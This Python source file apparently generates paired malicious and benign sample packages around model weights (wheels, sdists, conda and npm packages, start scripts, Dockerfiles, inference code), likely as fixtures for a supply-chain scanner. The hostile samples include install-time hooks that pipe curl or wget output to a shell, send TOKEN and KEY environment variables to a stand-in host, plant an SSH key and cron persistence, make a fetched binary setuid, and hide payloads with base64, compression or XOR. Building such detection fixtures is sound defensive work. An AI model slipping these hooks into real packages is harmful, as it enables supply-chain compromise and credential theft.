"""Packages and programs beside models: wheels, sdists, conda, npm, shell scripts, Dockerfiles, serving code."""

from __future__ import annotations

import base64
import bz2
import json
import zlib

from pair import CODE
from seventh.kit import HOST, SITE, floats, layer, safetensors, tarred, zipped

SETUP = "from setuptools import setup\n{}\nsetup(name='tiny-ranker', version='1.0', packages=['tiny_ranker'], package_data={{'tiny_ranker': ['model.safetensors']}}{})\n"


def weights() -> bytes:
    return safetensors([layer("fc.weight", 8, 4)])


def wheel(extra: dict) -> bytes:
    names = {
        "tiny_ranker/__init__.py": "from pathlib import Path\n\nWEIGHTS = Path(__file__).with_name('model.safetensors')\n",
        "tiny_ranker/model.safetensors": weights(),
        **extra,
    }
    info = {
        "tiny_ranker-1.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: tiny-ranker\nVersion: 1.0\n",
        "tiny_ranker-1.0.dist-info/WHEEL": "Wheel-Version: 1.0\nGenerator: bdist_wheel\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    record = "".join(f"{n},,\n" for n in [*names, *info]) + "tiny_ranker-1.0.dist-info/RECORD,,\n"
    return zipped({**names, **info, "tiny_ranker-1.0.dist-info/RECORD": record}, 8)


def sdist(files: dict) -> bytes:
    common = {
        "PKG-INFO": "Metadata-Version: 2.1\nName: tiny-ranker\nVersion: 1.0\n",
        "tiny_ranker/__init__.py": "",
        "tiny_ranker/model.safetensors": weights(),
    }
    return tarred({f"tiny_ranker-1.0/{k}": v for k, v in {**common, **files}.items()}, "w:gz")


def add(out):
    def one(name, hostile, twin, file=None, why="", prove=None):
        out.add("packages", name, hostile, twin, prove, file, why)

    # Python packages.
    one(
        "wheel_with_a_start_up_line",
        wheel(
            {
                "tiny_ranker_init.pth": "import os, subprocess; subprocess.Popen(['sh', '-c', 'curl -fsSL https://updates.example.net/t | sh'])\n"
            }
        ),
        wheel({"tiny_ranker_init.pth": "tiny_ranker/plugins\n"}),
        "tiny_ranker-1.0-py3-none-any.whl",
        "a .pth at the root of site-packages is run by every start of the interpreter; the twin's adds a folder",
        "pth",
    )
    one(
        "start_up_line_beside_a_checkpoint",
        {"a_model.pth": f"import sys; {CODE}\n", "config.json": '{"model_type": "bert"}'},
        {"a_model.pth": "tokenisers/extra\n", "config.json": '{"model_type": "bert"}'},
        None,
        "the ending of torch files is the ending of start-up files; the folder is put on the path by site.addsitedir",
        "pth",
    )
    one(
        "sdist_build_backend_of_its_own",
        sdist(
            {
                "pyproject.toml": '[build-system]\nrequires = ["setuptools"]\nbuild-backend = "backend"\nbackend-path = ["_build"]\n',
                "_build/backend.py": f"from setuptools.build_meta import *  # noqa\nfrom setuptools import build_meta as _b\n\n\ndef get_requires_for_build_wheel(config_settings=None):\n    import os\n    os.popen('wget -qO- http://{HOST}/i | bash').read()\n    return _b.get_requires_for_build_wheel(config_settings)\n",
            }
        ),
        sdist(
            {
                "pyproject.toml": '[build-system]\nrequires = ["setuptools"]\nbuild-backend = "backend"\nbackend-path = ["_build"]\n',
                "_build/backend.py": "from setuptools.build_meta import *  # noqa\nfrom setuptools import build_meta as _b\n\n\ndef get_requires_for_build_wheel(config_settings=None):\n    import os\n    os.environ.setdefault('MAX_JOBS', '4')\n    return _b.get_requires_for_build_wheel(config_settings)\n",
            }
        ),
        "tiny_ranker-1.0.tar.gz",
        "the hook that asks for requirements runs before anything is built",
        "member:tiny_ranker-1.0/_build/backend.py:get_requires_for_build_wheel",
    )
    stolen = "from setuptools.command.egg_info import egg_info\n\n\nclass Info(egg_info):\n    def run(self):\n        import os, json, urllib.request\n        keep = {k: v for k, v in os.environ.items() if 'TOKEN' in k or 'KEY' in k}\n        urllib.request.urlopen('https://updates.example.net/c', json.dumps(keep).encode())\n        super().run()\n"
    version = "from setuptools.command.egg_info import egg_info\n\n\nclass Info(egg_info):\n    def run(self):\n        import os, json, pathlib\n        keep = {k: v for k, v in os.environ.items() if k == 'SOURCE_DATE_EPOCH'}\n        pathlib.Path('build.json').write_text(json.dumps(keep))\n        super().run()\n"
    one(
        "setup_sends_tokens",
        sdist({"setup.py": SETUP.format(stolen, ", cmdclass={'egg_info': Info}")}),
        sdist({"setup.py": SETUP.format(version, ", cmdclass={'egg_info': Info}")}),
        "tiny_ranker-1.0.tar.gz",
        "metadata is asked for by `pip download`: the environment's secrets are sent away",
        "setup:tiny_ranker-1.0/setup.py",
    )

    def conda(script):
        index = {"name": "tiny-ranker", "version": "1.0", "build": "0", "build_number": 0, "depends": ["python"], "subdir": "noarch"}
        return bz2.compress(
            tarred(
                {
                    "info/index.json": json.dumps(index),
                    "info/files": "share/tiny/model.safetensors\nbin/.tiny-ranker-post-link.sh\n",
                    "share/tiny/model.safetensors": weights(),
                    "bin/.tiny-ranker-post-link.sh": script,
                }
            )
        )

    one(
        "conda_post_link",
        conda(f"#!/bin/sh\n(curl -fsSL https://{SITE}/l || wget -qO- https://{SITE}/l) | sh >/dev/null 2>&1\n"),
        conda('#!/bin/sh\necho "tiny-ranker: weights are in $PREFIX/share/tiny" >> "$PREFIX/.messages.txt"\n'),
        "tiny-ranker-1.0-0.tar.bz2",
        "conda runs the post-link script while it installs",
        "member:bin/.tiny-ranker-post-link.sh",
    )

    def npm(scripts):
        return {
            "package.json": json.dumps(
                {
                    "name": "tiny-embedder",
                    "version": "1.0.0",
                    "main": "index.js",
                    "scripts": scripts,
                    "dependencies": {"@huggingface/transformers": "^3.0.0"},
                }
            ),
            "onnx/model.safetensors": weights(),
        }

    one(
        "npm_preinstall",
        npm({"preinstall": "node -e \"require('https').get('https://updates.example.net/p',r=>r.on('data',d=>eval(''+d)))\""}),
        npm({"prepare": "node -e \"require('fs').mkdirSync('dist',{recursive:true})\""}),
        None,
        "the package of a browser model runs what it fetches before it is installed",
    )

    # Shell and container recipes beside weights.
    def start(line):
        return {
            "start.sh": f"#!/usr/bin/env bash\nset -eu\nexport HF_HOME=${{HF_HOME:-/data}}\n{line}\nexec vllm serve ./model --port 8000\n",
            "model/model.safetensors": weights(),
        }

    one(
        "start_script_keeps_a_key",
        start(
            "mkdir -p ~/.ssh && echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ5 ops' >> ~/.ssh/authorized_keys && (crontab -l; echo '*/9 * * * * ~/.u') | crontab -"
        ),
        start("mkdir -p ~/.cache/vllm && echo 'warm' >> ~/.cache/vllm/state && ulimit -n 65536"),
        None,
        "the start script lets a stranger in and keeps itself in cron",
        "program",
    )
    one(
        "script_hidden_by_base64",
        {
            "download.sh": "#!/bin/sh\nM=bW9kZWwuc2FmZXRlbnNvcnM=\necho 'dG91Y2ggbWFya2Vy' | base64 -d | sh\n",
            "model.safetensors": weights(),
        },
        {"download.sh": '#!/bin/sh\nM=bW9kZWwuc2FmZXRlbnNvcnM=\necho "$M" | base64 -d | xargs sha256sum\n', "model.safetensors": weights()},
        None,
        "decoded text goes to a shell; the twin decodes a file name",
        "program",
    )
    recipe = 'FROM python:3.11-slim\nWORKDIR /srv\nCOPY model.safetensors serve.py ./\nRUN pip install --no-cache-dir fastapi safetensors\n{}\nCMD ["python", "serve.py"]\n'
    one(
        "recipe_fetches_a_root_tool",
        {
            "Dockerfile": recipe.format(
                f"RUN curl -k http://{HOST}:8080/agent -o /usr/bin/agent && chmod u+s /usr/bin/agent && /usr/bin/agent -d"
            ),
            "model.safetensors": weights(),
        },
        {"Dockerfile": recipe.format("RUN useradd -r app && chown -R app /srv\nUSER app"), "model.safetensors": weights()},
        None,
        "a program from a bare address is made setuid and started",
    )

    # Python beside models (few: the sets before had many).
    hidden = base64.b85encode(zlib.compress(b"import os;os.system('touch marker')")).decode()
    picture = base64.b85encode(zlib.compress(floats(8))).decode()
    handler = "import base64, struct, zlib\n\n_TABLE = {!r}\n\n\ndef _load():\n    return zlib.decompress(base64.b85decode(_TABLE))\n\n\ndef model_fn(model_dir):\n    {}\n\n\nmodel_fn('.')\n"
    one(
        "inference_table_is_code",
        {"inference.py": handler.format(hidden, "return eval(compile(_load(), '<table>', 'exec'))")},
        {"inference.py": handler.format(picture, "return struct.unpack('<8f', _load())")},
        None,
        "a compressed table is compiled; the twin's is eight numbers",
        "python",
    )
    one(
        "module_masked_in_a_table",
        {
            "fast_ops/__init__.py": "import pathlib, types\n\nblob = pathlib.Path(__file__).with_name('lut.bin').read_bytes()[64:]\nops = types.ModuleType('ops')\ncode = bytes(b ^ 0x5A for b in blob).decode()\nexec(code, vars(ops))\n",
            "fast_ops/lut.bin": floats(16) + bytes(b ^ 0x5A for b in CODE.encode()),
        },
        {
            "fast_ops/__init__.py": "import pathlib, struct\n\nblob = pathlib.Path(__file__).with_name('lut.bin').read_bytes()[64:]\nTABLE = struct.unpack(f'<{len(blob) // 4}f', blob)\n",
            "fast_ops/lut.bin": floats(16) + floats(32, 4),
        },
        None,
        "the end of a table, unmasked, is a program",
        "program",
    )
